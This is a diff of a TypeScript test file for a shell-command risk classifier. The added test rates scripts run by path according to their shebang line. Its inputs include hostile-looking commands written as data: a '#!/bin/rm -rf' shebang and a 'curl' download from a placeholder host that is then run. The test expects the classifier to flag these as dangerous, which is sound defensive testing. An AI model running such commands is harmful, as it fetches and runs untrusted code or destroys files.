@@ -176,6 +176,43 @@ describe('classifyLine()', () => {
     expect(level('x=" -e$y"; node --check $x')).toBe('warning');
   });
 
+  test('a script that is run by its path is judged as by the interpreter that its first line names', () => {
+    const firstLines: Readonly<Record<string, string>> = {
+      '/repo/build.mjs': '#!/usr/bin/env node',
+      '/repo/x.sh': '#! /bin/bash -eu ',
+      '/repo/with-env': '#!/usr/bin/env -S node --import ./a.mjs',
+      '/repo/self-delete': '#!/bin/rm -rf',
+      '/repo/cat.txt': '#!/bin/cat',
+      '/repo/loop': '#!/usr/bin/env ./loop',
+      '/repo/odd': '#!/opt/ours/run',
+      '/repo/text': 'echo hi',
+      '/repo/relative': '#!node',
+      '/tmp/x.sh': '#!/bin/sh',
+    };
+    const judge = (line: string) =>
+      classifyLine(line, { cwd: '/repo', workspace: '/repo', firstLineOf: (path) => firstLines[path] });
+    const told = (line: string) => {
+      const { level, reasons } = judge(line);
+      return [level, ...reasons.map(({ code }) => code)];
+    };
+    expect(told('./build.mjs --all')).toEqual(['warning', 'runs-script', 'unknown-script']);
+    expect(judge('./build.mjs').effects).toEqual(
+      expect.arrayContaining(judge('node ./build.mjs').effects as unknown[]),
+    );
+    expect(told('cd lib && ../x.sh')).toEqual(['warning', 'runs-script']);
+    expect(told('./cat.txt')).toEqual(['warning', 'runs-script']);
+    expect(told('./with-env')).toEqual(expect.arrayContaining(['warning', 'unknown-script']));
+    expect(told('./self-delete')[0]).toBe('dangerous');
+    for (const line of ['./loop', './odd', './text', './relative', '/tmp/x.sh', './none', 'cd "$d"; ./x.sh'])
+      expect([line, ...told(line)]).toEqual(expect.arrayContaining([line, 'unknown-command']));
+    // What the line itself put there, or leads elsewhere, is none of what was looked at.
+    expect(told('cp a build.mjs && ./build.mjs')).toEqual(
+      expect.arrayContaining(['unknown-command', 'runs-what-it-wrote']),
+    );
+    expect(told('ln -s /tmp lib && lib/../x.sh')[0]).not.toBe('safe');
+    expect(told('curl https://x.example -o build.mjs; ./build.mjs')[0]).toBe('dangerous');
+  });
+
   test('a number before a builtin that keeps it stays one; a text is evaluated', () => {
     const codes = (value: string) =>
       classifyLine(`n=1; n=${value} export n; echo $((n))`, { cwd: '.' }).reasons.map(({ code }) => code);
